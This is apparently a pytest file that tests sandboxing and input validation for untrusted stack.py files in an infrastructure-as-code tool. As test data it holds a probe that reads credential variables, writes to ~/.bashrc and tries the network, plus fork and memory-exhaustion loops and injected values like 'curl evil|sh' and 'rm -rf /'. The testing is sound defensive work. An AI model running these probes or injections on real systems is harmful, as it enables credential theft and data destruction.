"""A stack is input from a change under review (issue 19): its stack.py runs fenced, and values no sane stack
holds are refused even where quoting would hold."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from mgc_iac.errors import SpecError
from mgc_iac.operations._planning import check
from mgc_iac.stack.loader import load_stack
from mgc_iac.stack.sandbox import bwrap_works

from .test_page_rules import errors, wf

needs_bwrap = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap cannot create namespaces here")

# a stack.py that tries what a hostile pull request's stack.py tried; each attempt's outcome is reported in the
# error it raises (the only channel it has back), so the test reads what the code could see and do
PROBE = '''
import os, socket, pathlib
seen = []
for name in ("PGPASSWORD", "MGC_IAC_STATE", "HUAWEICLOUD_SDK_SK", "GITHUB_TOKEN", "MGC_IAC_STACK_VAR_WAVE"):
    seen.append(f"{name}={os.environ.get(name, '-')}")
for target in (pathlib.Path.home() / ".bashrc", pathlib.Path(__file__).with_name("planted.txt"),
               pathlib.Path(os.environ.get("OUTSIDE", "/nonexistent")) / "planted.txt"):
    try:
        target.write_text("x")
        seen.append(f"wrote {target}")
    except OSError as exc:
        seen.append(f"no write {target.name}: {exc.strerror}")
try:
    seen.append("read secret: " + pathlib.Path(os.environ.get("OUTSIDE", "/nonexistent"), "secret.txt").read_text())
except OSError as exc:
    seen.append(f"no read: {exc.strerror}")
try:
    socket.create_connection(("127.0.0.1", int(os.environ.get("PORT", "1"))), timeout=3).close()
    seen.append("connected")
except OSError as exc:
    seen.append(f"no network: {exc.strerror}")
raise RuntimeError(" | ".join(seen))
'''


def _run_cli(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mgc_iac", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


@needs_bwrap
def test_stack_py_sees_no_secret_writes_nothing_and_reaches_no_network(tmp_path: Path):
    import socket

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("the-ci-token")
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text(PROBE)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    home = tmp_path / "home"
    home.mkdir()
    env = {**os.environ, "PGPASSWORD": "pg-secret", "MGC_IAC_STATE": "postgresql://mgc@db/x",
           "HUAWEICLOUD_SDK_SK": "sk-secret", "GITHUB_TOKEN": "ghs_secret", "MGC_IAC_STACK_VAR_WAVE": "3",
           "OUTSIDE": str(outside), "PORT": str(listener.getsockname()[1]), "HOME": str(home)}
    done = _run_cli(["validate", str(stack)], env, tmp_path)
    listener.close()
    said = done.stderr
    assert done.returncode == 1 and "RuntimeError" in said, said
    for secret in ("pg-secret", "sk-secret", "ghs_secret", "postgresql://", "the-ci-token"):
        assert secret not in said
    assert "PGPASSWORD=-" in said and "MGC_IAC_STACK_VAR_WAVE=3" in said  # only what is passed on purpose
    assert "no network" in said and "connected" not in said
    assert "no read" in said
    assert not (home / ".bashrc").exists() and not (stack / "planted.txt").exists()
    assert not (outside / "planted.txt").exists()


@needs_bwrap
def test_stack_py_limits_cpu_and_wall_clock(tmp_path: Path):
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text("while True:\n    pass\n")
    env = {**os.environ, "MGC_IAC_STACK_CPU_SECONDS": "1"}
    done = _run_cli(["validate", str(stack)], env, tmp_path)
    assert done.returncode == 1 and "more than 1 s of CPU time" in done.stderr, done.stderr
    (stack / "stack.py").write_text("import time\ntime.sleep(60)\n")
    env = {**os.environ, "MGC_IAC_STACK_TIMEOUT": "2"}
    done = _run_cli(["validate", str(stack)], env, tmp_path)
    assert done.returncode == 1 and "ran for more than 2 s" in done.stderr, done.stderr


def test_ci_without_bubblewrap_refuses_stack_code_unless_trusted(tmp_path: Path):
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text("raise RuntimeError('stack code ran')\n")
    nobwrap = tmp_path / "bin"  # a PATH with git and no bwrap: as on a runner without bubblewrap
    nobwrap.mkdir()
    env = {**os.environ, "PATH": str(nobwrap), "CI": "true"}
    env.pop("MGC_IAC_TRUST_STACK_CODE", None)
    done = _run_cli(["validate", str(stack)], env, tmp_path)
    assert done.returncode == 1 and "stack.py was not run" in done.stderr and "stack code ran" not in done.stderr
    assert "apt-get install bubblewrap" in done.stderr
    done = _run_cli(["--trust-stack-code", "validate", str(stack)], env, tmp_path)
    assert done.returncode == 1 and "stack code ran" in done.stderr
    done = _run_cli(["validate", str(stack)], {**env, "CI": ""}, tmp_path)  # a workstation: scrubbed env, limits
    assert "stack code ran" in done.stderr


def test_stack_py_output_cannot_forge_the_answer(tmp_path: Path):
    from tests.stack.test_python_stack import DEMO_PY

    clean, noisy = tmp_path / "clean", tmp_path / "noisy"
    for directory in (clean, noisy):
        directory.mkdir()
    (clean / "stack.py").write_text(DEMO_PY)
    (noisy / "stack.py").write_text("import os\nos.write(1, b'{\"stack\": {}}')\nprint('noise')\n" + DEMO_PY)
    assert load_stack(noisy).digest == load_stack(clean).digest


@needs_bwrap
def test_stack_py_writes_nothing_past_its_scratch_size(tmp_path: Path):
    """Every writable place inside is sized: bwrap's own /dev and /dev/shm are tmpfs of half the machine's
    memory, so a stack.py filling them filled the runner's memory past the scratch limit."""
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text(
        "written = {}\n"
        "for place in ('/tmp', '/dev/shm', '/dev'):\n"
        "    written[place] = 0\n"
        "    try:\n"
        "        for i in range(24):\n"
        "            with open(f'{place}/fill{i}', 'wb') as f:\n"
        "                f.write(b'x' * (1 << 20))\n"
        "            written[place] += 1\n"
        "    except OSError:\n"
        "        pass\n"
        "raise RuntimeError(' '.join(f'{k}={v}MB' for k, v in written.items()))\n")
    done = _run_cli(["validate", str(stack)], {**os.environ, "MGC_IAC_STACK_SCRATCH_MB": "8"}, tmp_path)
    said = done.stderr
    assert done.returncode == 1 and "RuntimeError" in said, said
    written = dict(item.split("=") for item in said.split("RuntimeError: ")[1].split(";")[0].split())
    assert int(written["/tmp"].rstrip("MB")) <= 8 and int(written["/dev/shm"].rstrip("MB")) <= 16, said
    assert written["/dev"] == "0MB", said


def test_stack_py_cannot_start_processes_without_end(tmp_path: Path):
    """A fork loop: each process may use the whole memory limit, so their number is limited too (RLIMIT_NPROC,
    on top of what this user already runs). The kernel exempts root from it: run as root (this machine), the
    test checks the limit stack.py is given; run as a CI runner's user, also that the loop stops."""
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text(
        "import os, resource, time\nstarted = 0\ntry:\n    for _ in range(600 if os.geteuid() else 0):\n"
        "        if os.fork() == 0:\n            time.sleep(5)\n            os._exit(0)\n        started += 1\n"
        "except OSError:\n    pass\n"
        "raise RuntimeError(f'limit {resource.getrlimit(resource.RLIMIT_NPROC)[1]} started {started}')\n")
    done = _run_cli(["validate", str(stack)], dict(os.environ), tmp_path)
    limit, started = (int(x) for x in re.search(r"limit (-?\d+) started (\d+)", done.stderr).groups())
    mine = sum(1 for p in Path("/proc").iterdir() if p.name.isdigit() and p.stat().st_uid == os.getuid())
    assert 0 < limit <= mine + 256 + 64, done.stderr  # what this user runs may change a little meanwhile
    assert started <= 256, done.stderr


def test_stack_py_printing_gigabytes_does_not_fill_the_callers_memory(tmp_path: Path):
    """stack.py's output is read as it comes and only its end kept: 1 GiB printed, a stack still loads."""
    from tests.stack.test_python_stack import DEMO_PY

    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text("import sys\nfor _ in range(1024):\n    sys.stdout.write('y' * (1 << 20))\n"
                                    + DEMO_PY)
    # started by a small launcher: a process's peak RSS starts at its spawner's (fork/vfork, then exec keeps the
    # old image's high-water mark), and pytest itself holds hundreds of MB late in a full run
    launcher = ("import os, subprocess, sys\n"
                "p = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                "_, status, usage = os.wait4(p.pid, 0)\n"
                "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)\n")
    done = subprocess.run([sys.executable, "-c", launcher, sys.executable, "-m", "mgc_iac", "validate", str(stack)],
                          cwd=tmp_path, capture_output=True, text=True, timeout=600)
    code, maxrss = (int(x) for x in done.stdout.split())
    assert code == 0
    assert maxrss < 400 * 1024, f"the CLI grew to {maxrss // 1024} MB"  # KiB on Linux


@pytest.mark.parametrize("answer, said", [
    ({"diagnostics": [{"severity": "bogus"}]}, "an answer mgc-iac cannot read"),
    ({"diagnostics": 5}, "an answer mgc-iac cannot read"),
    ({"diagnostics": [{"severity": "warning", "message": "all fine", "path": "", "fix": "", "file": "/etc/passwd",
                       "line": {"x": 1}, "rule": ""}]}, "stack.py did not return a stack"),
])
def test_a_forged_answer_is_a_clear_error_not_an_internal_one(tmp_path: Path, answer: dict, said: str):
    """The answer's channel is an inherited descriptor stack.py can write to: what comes back is input too."""
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "stack.py").write_text(f"import json, os\nos.write(3, json.dumps({answer!r}).encode())\nos._exit(0)\n")
    done = _run_cli(["validate", str(stack)], dict(os.environ), tmp_path)
    assert done.returncode == 1 and said in done.stderr, done.stderr
    assert "Internal error" not in done.stderr and "/etc/passwd" not in done.stderr


@pytest.mark.parametrize("url, allow_http, problem", [
    ("https://repo.internal/SMS-Agent_Linux.tgz", False, None),
    ("http://192.168.1.5/SMS-Agent_Linux.tgz", False, "plain http"),
    ("http://192.168.1.5/SMS-Agent_Linux.tgz", True, None),
    ("https://user:pw@repo/SMS-Agent_Linux.tgz", False, "credentials"),
    ("https://repo/a.tgz;curl evil|sh", False, "characters"),
    ("https://repo/$(id).tgz", False, "characters"),
    ("https://repo/a.tgz\nrm -rf /", False, "characters"),
    ("ftp://repo/a.tgz", False, "https"),
])
def test_package_url_is_https_and_plain(make_stack, base, url, allow_http, problem):
    wf(base)["network"] = {"type": "private", "agent_package_url": url, "agent_package_allow_http": allow_http}
    found = errors(make_stack, base, "package-url")
    if problem is None:
        assert found == []
    else:
        [err] = found
        assert problem in err.message and err.path.endswith("agent_package_url") and err.line is not None
        assert "\n" not in err.message


@pytest.mark.parametrize("path, ok", [("/data", True), ("/srv/../etc", False), ("/data/./x", False),
                                      ("data", False), ("/data\n/etc", False), ("/da\x1bta", False)])
def test_paths_are_absolute_normalized_and_on_one_line(make_stack, base, path, ok):
    wf(base)["verification_policy"] = {"hash": True, "include_paths": [path]}
    found = errors(make_stack, base, "paths")
    assert (found == []) is ok, found


@pytest.mark.parametrize("vpc, ok", [("vpc-shop", True), ("vpc_shop.1", True), ("业务网络", True),
                                     ("3f0a1c2e-5b6d-4e7f-8a9b-0c1d2e3f4a5b", True), ("vpc shop", False),
                                     ("vpc;reboot", False), ("x" * 65, False), ("vpc\x1b]0;t\x07", False)])
def test_vpc_names_are_in_huaweis_charset(make_stack, base, vpc, ok):
    wf(base)["target"]["vpc"] = vpc
    found = errors(make_stack, base, "network-name")
    assert (found == []) is ok
    if not ok:
        assert "\x1b" not in found[0].message and found[0].path == "workflows[0].target.vpc"


def test_control_characters_warn_in_free_text_and_fail_elsewhere(make_stack, base):
    wf(base)["description"] = "web tier \x1b[2K\x1b[1Aall clear"
    diags = check(make_stack(base)).diagnostics
    [warning] = [d for d in diags.warnings if d.rule == "control-characters"]
    assert warning.path == "workflows[0].description" and "\\x1b[2K" in warning.message
    assert not diags.has_errors
    wf(base)["target"]["flavor"] = "s6.large.2\x07"
    [err] = [d for d in check(make_stack(base)).diagnostics.errors if d.rule == "control-characters"]
    assert err.path == "workflows[0].target.flavor"


def test_names_with_control_characters_are_refused(make_stack, base):
    wf(base)["name"] = "wave\x1b"
    with pytest.raises(SpecError):
        check(make_stack(base))



@pytest.mark.parametrize("description, warned", [
    ("C:\\new\\temp and D:\\\\table", False),  # backslashes before n and t: no line break in the text
    ("C:\\\x1b[2Kdone", True),  # an escape right after a backslash
    ("ok\\\nnext line", False),  # a line break in free text is no control; in a path it is (below)
    ("price \x85 total", True), ("admin\u202egnp.exe", True), ("tab\there", False), ("plain text", False),
])
def test_control_characters_are_found_behind_backslashes_and_past_ascii(make_stack, base, description, warned):
    wf(base)["description"] = description
    diags = check(make_stack(base)).diagnostics
    found = [d for d in diags.warnings if d.rule == "control-characters"]
    assert bool(found) is warned, found
    wf(base)["description"] = "wave"
    wf(base)["target"]["security_group"] = "sg-main"
    wf(base)["verification_policy"] = {"hash": True, "include_paths": ["/data"],
                                       "exclude_paths": [f"/data/{description}"]}
    errors_found = [d for d in check(make_stack(base)).diagnostics.errors if d.rule == "control-characters"]
    assert bool(errors_found) is (warned or "\t" in description or "\n" in description), errors_found
